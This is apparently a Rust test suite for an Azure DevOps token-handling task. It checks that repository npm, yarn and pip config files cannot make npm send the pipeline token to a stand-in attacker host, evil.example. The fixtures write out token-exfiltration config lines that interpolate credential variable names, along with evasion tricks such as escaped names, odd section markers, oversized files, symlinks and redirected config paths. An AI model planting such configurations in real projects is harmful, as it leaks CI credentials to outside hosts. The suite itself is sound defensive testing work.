//! Files of the repository that would have npm send the token to a stranger, by every name under which it could stand.

use ado_entra_auth_emulator::Emulator;
use ado_entra_auth_emulator::agent::{Job, StepResult, TaskStep, Variable};
use ado_entra_auth_emulator::world::{CLIENT, Challenge, Package};

use crate::modes::link;
use crate::npm::{FEED, installed};
use crate::support::{
    EVIL, assert_no_secret_shown, emulator, finish, in_parallel, job, leaks_below, named, run, script, side_by_side,
    step, tool, with_token, write,
};

/// Names that hold the token today, held it once, or that others expect it under.
const NAMES: &[&str] = &[
    "ADO_ENTRA_TOKEN",
    "ado_entra_token",
    "ADO_ENTRA_AUTH_NPM_CONTOSO",
    "ADO_ENTRA_AUTH_MAVEN_CONTOSO",
    "ADO_ENTRA_AUTH_CONTOSO",
    "NuGetPackageSourceCredentials_feed1",
    "VSS_NUGET_EXTERNAL_FEED_ENDPOINTS",
    "VSS_NUGET_ACCESSTOKEN",
    "GIT_CONFIG_VALUE_0",
    "GIT_CONFIG_VALUE_1",
    "GIT_CONFIG_VALUE_2",
    "SYSTEM_ACCESSTOKEN",
];

/// A world whose stranger asks for a credential and takes any.
fn with_challenge() -> Emulator {
    let emulator = emulator();
    emulator.change(|world| {
        let evil = world.foreign_hosts.iter_mut().find(|host| host.name == EVIL).unwrap();
        evil.challenge = Challenge::Basic;
        evil.packages.push(Package::npm("@e/left-behind", "1.0.0", &[]));
    });
    emulator
}

/// A project with a feed of its own and, at a stranger's, a package in a scope.
fn write_project(job: &Job<'_>) {
    write(job, ".npmrc", format!("registry={FEED}\n@e:registry=https://{EVIL}/npm/\n"));
    write(
        job,
        "package.json",
        "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"hello-contoso\":\"1.0.0\"},\"optionalDependencies\":{\"@e/left-behind\":\"1.0.0\"}}",
    );
    write(
        job,
        "nuget.config",
        "<configuration><packageSources><clear/><add key=\"feed1\" value=\"https://pkgs.dev.azure.com/contoso/_packaging/feed1/nuget/v3/index.json\"/></packageSources></configuration>",
    );
}

/// A command by which npm asks the stranger, as are the next ones. Each sends what the files have for that host.
const INSTALL: &str = "install --no-fund --no-audit";
const VIEW: &str = "view @e/left-behind";
const PING: &str = "ping --registry=https://evil.example/npm/";
/// Asks the stranger where npm reads the file of a folder, since no other file names this scope.
const VIEW_OF_FOLDER: &str = "view @v/left-behind";
/// Asks by the address that a row has for a scope of its own.
const VIEW_BY_ADDRESS: &str = "view @f/left-behind";

/// Runs the step and npm, wherever its files lead; gives whether the feed's package came.
fn run_and_ask(
    emulator: &Emulator,
    job: &mut Job<'_>,
    step: &TaskStep,
    (folder, commands): (&str, &[&str]),
    what: &str,
) -> bool {
    let outcome = job.run_task(step).unwrap();
    assert_no_secret_shown(emulator, &outcome);
    emulator.clear_requests();
    let place = job.sources().join(folder);
    for command in commands {
        let before = emulator.requests_to(EVIL).len();
        job.run_script(&format!("npm {command} --fetch-retries=0 --loglevel=error"), &place).unwrap();
        assert!(emulator.requests_to(EVIL).len() > before, "{what}: the stranger was asked by {command}");
    }
    assert!(!emulator.secret_was_sent_to(EVIL), "{what}: {:?}", emulator.requests_to(EVIL));
    assert_eq!(outcome.result == StepResult::Succeeded, outcome.errors.is_empty(), "{what}");
    installed(&place, "hello-contoso")
}

struct Row {
    what: String,
    files: Vec<(String, String)>,
    /// The folder in which npm runs, and by which commands.
    folder: &'static str,
    commands: &'static [&'static str],
    /// The input `tools`.
    tools: &'static str,
}

/// Each way past a check that reads otherwise than npm does, with every name: the name is worth nothing, so no way is needed.
#[test]
fn no_file_of_the_repository_sends_the_token_to_a_stranger() {
    if tool("npm").is_none() {
        return;
    }
    let mut rows: Vec<Row> = Vec::new();
    // The first of the names stops the step where it is seen, so the others get rows of their own.
    for names in [&NAMES[..1], &NAMES[1..]] {
        let all: String = names.iter().flat_map(|name| ["${", name, "}"]).collect();
        let key = format!("//{EVIL}/:_authToken");
        let lines = format!("user-agent={all}\n{key}={all}\n");
        let project = format!("@v:registry=https://{EVIL}/npm/\n{lines}");
        let mut row = |what: &str, files: &[(&str, &str)], folder, commands, tools| {
            let files = files.iter().map(|(path, text)| ((*path).to_owned(), (*text).to_owned())).collect();
            rows.push(Row { what: format!("{what} {}", names[0]), files, folder, commands, tools });
        };
        let install: &[&str] = &[INSTALL];
        let view: &[&str] = &[VIEW_OF_FOLDER];
        row("plain", &[(".npmrc", &lines)], "", &[INSTALL, VIEW, PING], "");
        row("behind what is a section only for some", &[(".npmrc", &format!(" [x]\n{lines}"))], "", install, "");
        row("U+0085 before a section", &[(".npmrc", &format!("\u{85}[x]\n{lines}"))], "", install, "");
        row("quoted", &[(".npmrc", &format!("{key}=\"{}\"\n", all.replace('_', "\\u005f")))], "", install, "");
        let twice = format!("user-agent='\"{}\"'\n", all.replace('_', "\\u005f"));
        row("quoted twice", &[(".npmrc", &twice)], "", install, "");
        let another = [(".npmrc", "globalconfig=./conf/x.txt\n"), ("conf/x.txt", &*lines)];
        row("another file", &another, "", install, "");
        row("below a prefix", &[(".npmrc", "prefix=./p\n"), ("p/etc/npmrc", &lines)], "", install, "");
        row("tools: git", &[(".npmrc", &lines)], "", install, "git");
        row("tools: git, nuget", &[(".npmrc", &lines)], "", install, "git, nuget");
        row("a dependency folder", &[("vendor/app/.npmrc", &project)], "vendor/app", view, "");
        row("another of them", &[(".yarn/app/.npmrc", &project)], ".yarn/app", view, "");
        let password = format!("//{EVIL}/:username=u\n//{EVIL}/:_password={all}\n");
        row("a password", &[(".npmrc", &password)], "", install, "");
        let address = format!("@f:registry=https://{EVIL}/{all}/\n");
        row("in the address", &[(".npmrc", &address)], "", &[VIEW_BY_ADDRESS], "");
    }
    side_by_side(4, &rows, |Row { what, files, folder, commands, tools }| {
        let emulator = with_challenge();
        let mut job = job(&emulator);
        write_project(&job);
        for (path, text) in files {
            let before = crate::support::read(job.sources().join(path));
            write(&job, path, format!("{before}{text}"));
        }
        if !folder.is_empty() {
            write_manifest(&job, folder);
        }
        let mut step = step().input("gitCredential", "helper");
        if !tools.is_empty() {
            step = step.input("tools", tools);
        }
        run_and_ask(&emulator, &mut job, &step, (folder, commands), what);
    });
}

/// By which a folder is a project of its own for npm, whose file it reads.
fn write_manifest(job: &Job<'_>, folder: &str) {
    write(job, &format!("{folder}/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\"}");
}

/// A file that is too large to be looked at, and a link into a folder that is left out.
#[test]
fn neither_size_nor_links_hide_a_file() {
    if tool("npm").is_none() {
        return;
    }
    let all: String = NAMES.iter().flat_map(|name| ["${", name, "}"]).collect();
    let lines = format!("user-agent={all}\n//{EVIL}/:_authToken={all}\n");
    for what in ["size", "link"] {
        let emulator = with_challenge();
        let mut job = job(&emulator);
        write_project(&job);
        let folder = if what == "size" {
            let before = crate::support::read(job.sources().join(".npmrc"));
            write(&job, ".npmrc", format!("{before}{lines};{}\n", "x".repeat(65 * 1024 * 1024)));
            ""
        } else {
            write(&job, "vendor/app/.npmrc", format!("@v:registry=https://{EVIL}/npm/\n{lines}"));
            write_manifest(&job, "vendor/app");
            link("vendor/app", job.sources().join("web")).unwrap();
            "web"
        };
        let command = if folder.is_empty() { INSTALL } else { VIEW_OF_FOLDER };
        run_and_ask(&emulator, &mut job, &step(), (folder, &[command]), what);
    }
}

/// `gitCredential: extraHeader` is the one way by which a variable of a fixed name holds the token: a file that refers to it stops the
/// step, whichever tools are wanted, and one that does not is let be.
#[test]
fn the_variables_of_extra_header_are_guarded_in_the_files_of_every_tool() {
    if tool("npm").is_none() {
        return;
    }
    for tools in ["auto", "git", "git, npm"] {
        for number in 0..4 {
            let emulator = with_challenge();
            let mut job = job(&emulator);
            write_project(&job);
            let before = crate::support::read(job.sources().join(".npmrc"));
            write(&job, ".npmrc", format!("{before}//{EVIL}/:_authToken=${{GIT_CONFIG_VALUE_{number}}}\n"));
            let step = step().input("gitCredential", "extraHeader").input("tools", tools);
            run_and_ask(&emulator, &mut job, &step, ("", &[INSTALL]), &format!("{tools} {number}"));
        }
        let emulator = with_challenge();
        let mut job = job(&emulator);
        write_project(&job);
        run(&emulator, &mut job, &step().input("gitCredential", "extraHeader").input("tools", tools));
    }
}

/// These files do send what a variable of such a name holds: without the step, and with a token put there by hand.
#[test]
fn the_files_would_send_what_a_fixed_name_holds() {
    if tool("npm").is_none() {
        return;
    }
    let emulator = with_challenge();
    let mut job = job(&emulator);
    write_project(&job);
    let before = crate::support::read(job.sources().join(".npmrc"));
    write(&job, ".npmrc", format!("{before}//{EVIL}/:_authToken=${{GIT_CONFIG_VALUE_1}}\n"));
    let token = emulator.access_token(CLIENT).unwrap();
    job.set_variable(Variable::public("GIT_CONFIG_VALUE_1", &token));
    let sources = job.sources();
    job.run_script("npm view @e/left-behind --fetch-retries=0", &sources).unwrap();
    assert!(emulator.secret_was_sent_to(EVIL));
}

/// The positive control: beside the stranger's registry the feed is served.
#[test]
fn a_strangers_registry_beside_the_feed_hinders_nothing() {
    if tool("npm").is_none() {
        return;
    }
    let emulator = with_challenge();
    let mut job = job(&emulator);
    write_project(&job);
    assert!(run_and_ask(&emulator, &mut job, &step(), ("", &[INSTALL, VIEW, PING]), "innocent"));
    assert!(!with_token(&emulator.requests_to("pkgs.dev.azure.com")).is_empty());
}

/// The environment of a later script: with git's helper nothing of the token; with npm only under a name that is new in each run. So
/// what names a fixed variable in files of tools that this version does not serve gets nothing.
#[test]
fn a_later_scripts_environment_holds_the_token_under_no_name_that_a_file_can_know() {
    let files = [
        (
            ".yarnrc.yml",
            "npmRegistryServer: \"https://evil.example\"\nnpmAlwaysAuth: true\nnpmAuthToken: \"${ADO_ENTRA_TOKEN}\"\n",
        ),
        ("requirements.txt", "--index-url https://x:${ADO_ENTRA_TOKEN}@evil.example/simple/\n"),
    ];
    let mut names = Vec::new();
    for tools in ["git", "npm, git", "npm, git"] {
        let emulator = emulator();
        let mut job = job(&emulator);
        write(&job, ".npmrc", format!("registry={FEED}\n"));
        for (path, text) in files {
            write(&job, path, text);
        }
        run(&emulator, &mut job, &step().input("tools", tools));
        let sources = job.sources();
        let environment = script(&mut job, &sources, "env").raw;
        let holding: Vec<&str> =
            environment.lines().filter(|line| !emulator.leaks_in(line.as_bytes()).is_empty()).collect();
        let holding: Vec<&str> = holding.iter().map(|line| line.split('=').next().unwrap()).collect();
        if tools == "git" {
            assert!(holding.is_empty() && emulator.leaks_in(environment.as_bytes()).is_empty(), "{holding:?}");
        } else {
            assert_eq!(holding.len(), 1, "{holding:?}");
            let random =
                holding[0].strip_prefix("ADO_ENTRA_AUTH_").and_then(|rest| rest.strip_suffix("_CONTOSO")).unwrap();
            assert!(random.len() >= 20, "{random}");
            names.push(random.to_owned());
        }
        assert_eq!(leaks_below(&emulator, job.root()), Vec::<String>::new());
        finish(&mut job);
    }
    assert_ne!(names[0], names[1]);
}

/// The variable of an earlier step is no better known than that of a later one.
#[test]
fn a_second_step_has_a_name_of_its_own() {
    let emulator = emulator();
    let mut job = job(&emulator);
    write(&job, ".npmrc", format!("registry={FEED}\n"));
    for name in ["first", "second"] {
        run(&emulator, &mut job, &named(&step(), name));
    }
    let is_ours =
        |variable: &&Variable| variable.name.starts_with("ADO_ENTRA_AUTH_") && variable.name.ends_with("_CONTOSO");
    let ours: Vec<&str> = job.variables().iter().filter(is_ours).map(|variable| variable.name.as_str()).collect();
    assert_eq!(ours.len(), 2, "{ours:?}");
}

/// The names mean nothing any more, so a file that has them for another registry is let be.
#[test]
fn fixed_names_in_plain_files_are_no_reason_to_stop() {
    let rows = ["ADO_ENTRA_AUTH_NPM_CONTOSO", "GIT_CONFIG_VALUE_1", "NPM_TOKEN"];
    in_parallel(&rows, |name| {
        let emulator = emulator();
        let mut job = job(&emulator);
        write(&job, ".npmrc", format!("registry={FEED}\n//registry.example.com/:_authToken=${{{name}}}\n"));
        let outcome = run(&emulator, &mut job, &step());
        assert!(outcome.warnings.is_empty(), "{name}: {:?}", outcome.warnings);
    });
}
